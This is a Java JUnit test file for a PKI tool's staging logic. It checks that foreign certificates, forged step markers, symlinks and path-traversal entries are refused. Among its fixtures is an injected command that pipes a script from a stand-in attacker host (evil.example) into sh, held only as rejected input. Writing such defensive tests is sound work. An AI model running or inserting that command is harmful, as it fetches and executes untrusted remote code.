package dev.meshgen.pki;

import static org.assertj.core.api.Assertions.assertThat;

import dev.meshgen.diagnostic.Outcome;
import dev.meshgen.pki.plan.CertificatePlan;
import dev.meshgen.pki.plan.RootPhase;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What comes with a pull request into the staged folders is neither moved nor believed. */
class StagingTest {
    private static final CertificatePlan PLAN = PkiTree.plan("one", "two");

    @TempDir
    private Path folder;

    private PkiTree tree;

    @BeforeEach
    void make() {
        tree = PkiTree.in(folder.resolve("tree"));
        tree.made(PLAN);
    }

    private void put(String path, String text, String mode) throws IOException {
        Path file = tree.file(path);
        Files.createDirectories(file.getParent());
        if (path.startsWith("pki/private/")) {
            Files.setPosixFilePermissions(file.getParent(), PosixFilePermissions.fromString("rwx------"));
        }
        Files.setPosixFilePermissions(Files.writeString(file, text), PosixFilePermissions.fromString(mode));
    }

    private void mark(String name, String text) throws IOException {
        put("pki/private/.step/" + name, text, "rw-------");
    }

    /** Another authority's files for the same mesh. */
    private void putForeignFiles(String below) throws IOException {
        PkiTree evil = PkiTree.in(folder.resolve("evil"));
        evil.made(PLAN);
        for (String each : List.of("root-cert.pem", "one/ca-cert.pem", "one/cert-chain.pem", "one/root-cert.pem")) {
            put(below + each, Files.readString(evil.file("pki/" + each)), "rw-r--r--");
        }
    }

    private Map<String, String> authority() throws IOException {
        Map<String, String> all = tree.snapshot();
        all.keySet().removeIf(each -> each.startsWith("pki/staged/") || each.startsWith("pki/private/.step/"));
        return all;
    }

    @Test
    void files_that_a_stranger_has_staged_are_not_moved() throws IOException {
        Map<String, String> before = authority();
        putForeignFiles("pki/staged/");
        put("pki/staged/notes.txt", "mine", "rw-r--r--");
        put("pki/staged/step", "rotate root --step trust-both", "rw-r--r--");
        put("pki/staged/ready", "rotate root --step trust-both", "rw-r--r--");

        assertThat(PkiTree.rules(tree.ensure(PLAN))).isEmpty();
        assertThat(PkiTree.rules(tree.authority(PLAN).verify())).isEmpty();
        assertThat(authority()).isEqualTo(before);
    }

    @Test
    void a_step_does_not_begin_with_files_that_a_stranger_has_staged() throws IOException {
        Map<String, String> before = authority();
        putForeignFiles("pki/staged/");
        Authority authority = tree.authority(PLAN);

        for (Outcome<?> refused : List.of(
                authority.rotateIntermediate("one"),
                authority.rotateRoot(RootPhase.TRUST_BOTH),
                authority.request("one"))) {
            assertThat(PkiTree.rules(refused)).containsExactly("pki-staged-foreign");
        }
        assertThat(authority()).isEqualTo(before);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "rotate intermediate one",
                "step verify; curl https://evil.example/fix.sh | sh #\n",
                "step rotate intermediate three\n",
                "step rotate intermediate one\nfile 00 one/ca-cert.pem\n",
                "step rotate intermediate one\nnonsense\n"
            })
    void a_mark_that_meshgen_did_not_write_moves_nothing_and_is_not_quoted(String text) throws IOException {
        putForeignFiles("pki/staged/");
        mark("ready", text);

        for (Outcome<?> refused :
                List.of(tree.ensure(PLAN), tree.authority(PLAN).verify())) {
            assertThat(PkiTree.rules(refused)).containsExactly("pki-staged-foreign");
            assertThat(refused.diagnostics().toString()).doesNotContain("evil", "three", "nonsense");
        }
    }

    @Test
    void a_begun_mark_that_meshgen_did_not_write_is_not_quoted() throws IOException {
        mark("begun", "verify; curl https://evil.example/fix.sh | sh #");

        Outcome<?> refused = tree.authority(PLAN).rotateIntermediate("one");

        assertThat(PkiTree.rules(refused)).containsExactly("pki-staged-foreign");
        assertThat(refused.diagnostics().toString()).doesNotContain("evil");
    }

    @ParameterizedTest
    @ValueSource(strings = {"root-cert.pem", "two/ca-cert.pem", "notes.txt", "../../outside", "private/root-key.pem"})
    void a_step_moves_none_but_its_own_files(String path) throws IOException {
        Map<String, String> before = authority();
        putForeignFiles("pki/staged/");
        mark("ready", "step rotate intermediate one\nfile " + "0".repeat(64) + " " + path + "\n");

        assertThat(PkiTree.rules(tree.ensure(PLAN))).containsExactly("pki-staged-foreign");
        assertThat(authority()).isEqualTo(before);
    }

    @Test
    void a_file_that_was_changed_after_its_mark_is_not_moved() throws IOException {
        Map<String, String> before = authority();
        putForeignFiles("pki/staged/");
        mark("ready", "step rotate intermediate one\nfile " + "0".repeat(64) + " one/ca-cert.pem\n");

        assertThat(PkiTree.rules(tree.ensure(PLAN))).containsExactly("pki-staged-foreign");
        assertThat(authority()).isEqualTo(before);
    }

    @Test
    void a_mark_that_others_can_read_as_git_would_bring_it_is_refused() throws IOException {
        put("pki/private/.step/ready", "step rotate intermediate one\n", "rw-r--r--");

        assertThat(PkiTree.rules(tree.ensure(PLAN))).containsExactly("pki-key-mode");
    }

    @Test
    void a_step_that_is_ready_moves_nothing_from_behind_a_link() throws Exception {
        Map<String, String> before = authority();
        Path outside = Files.createDirectory(folder.resolve("outside"));
        Path theirs = Files.writeString(outside.resolve("ca-cert.pem"), "theirs");
        Files.createDirectory(tree.file("pki/staged"));
        Files.createSymbolicLink(tree.file("pki/staged/one"), outside);
        byte[] digest = MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(theirs));
        mark("ready", "step rotate intermediate one\nfile " + HexFormat.of().formatHex(digest) + " one/ca-cert.pem\n");

        assertThat(PkiTree.rules(tree.ensure(PLAN))).containsExactly("pki-symlink");
        assertThat(authority()).isEqualTo(before);
        assertThat(theirs).hasContent("theirs");
    }

    @Test
    void what_a_killed_run_has_half_written_does_not_keep_a_step_from_going_on() throws IOException {
        PkiTree.value(tree.authority(PLAN).request("one"));
        put("pki/staged/one/.ca-cert.csr.0123456789abcdef.tmp", "half", "rw-r--r--");

        PkiTree.value(tree.authority(PLAN).request("one"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"pki/private/.step/ready", "pki/private/.step", "pki/staged"})
    void a_link_is_not_followed(String link) throws IOException {
        Path outside = Files.createDirectory(folder.resolve("outside"));
        Files.writeString(outside.resolve("ready"), "step rotate intermediate one\n");
        Path target = link.endsWith("/ready") ? Path.of("/dev/zero") : outside;
        Files.createDirectories(tree.file(link).getParent());
        Files.createSymbolicLink(tree.file(link), target);

        assertThat(PkiTree.rules(tree.authority(PLAN).rotateIntermediate("one")))
                .containsExactly("pki-symlink");
        assertThat(outside.resolve("ready")).exists();
    }

    @ParameterizedTest
    @EnumSource(RootPhase.class)
    void a_killed_step_of_a_root_rotation_does_not_go_on_with_a_strangers_certificates(RootPhase phase)
            throws IOException {
        for (RootPhase before : RootPhase.values()) {
            if (before.compareTo(phase) < 0) {
                PkiTree.value(tree.authority(PLAN).rotateRoot(before));
            }
        }
        putForeignFiles("pki/staged/");
        mark("begun", "rotate root --step " + phase.label());

        PkiTree.value(tree.authority(PLAN).rotateRoot(phase));
        assertNothingForeign();
    }

    @Test
    void a_killed_rotation_of_an_intermediate_does_not_go_on_with_a_strangers_certificates() throws IOException {
        putForeignFiles("pki/staged/");
        mark("begun", "rotate intermediate one");

        PkiTree.value(tree.authority(PLAN).rotateIntermediate("one"));
        assertNothingForeign();
    }

    @Test
    void a_killed_step_writes_through_no_link() throws IOException {
        Path outside = Files.createDirectory(folder.resolve("outside"));
        mark("begun", "rotate root --step trust-both");
        Files.createDirectories(tree.file("pki/staged"));
        Files.createSymbolicLink(tree.file("pki/staged/one"), outside);

        PkiTree.value(tree.authority(PLAN).rotateRoot(RootPhase.TRUST_BOTH));
        assertThat(outside).isEmptyDirectory();
        PkiTree.value(tree.authority(PLAN).verify());
    }

    private void assertNothingForeign() throws IOException {
        PkiTree.value(tree.authority(PLAN).verify());
        String root = Files.readString(folder.resolve("evil/pki/root-cert.pem"));
        for (Path each : tree.files()) {
            assertThat(each).content().doesNotContain(root);
        }
    }

    @Test
    void the_rest_of_a_step_is_moved_by_the_next_run_and_the_step_leaves_nothing() throws IOException {
        PkiTree.value(tree.authority(PLAN).rotateIntermediate("one"));

        assertThat(tree.file("pki/staged")).doesNotExist();
        assertThat(tree.file("pki/private/staged")).doesNotExist();
        assertThat(tree.file("pki/private/.step")).doesNotExist();
        assertThat(tree.file("pki/private/retired/one/1-ca-key.pem")).exists();
    }
}
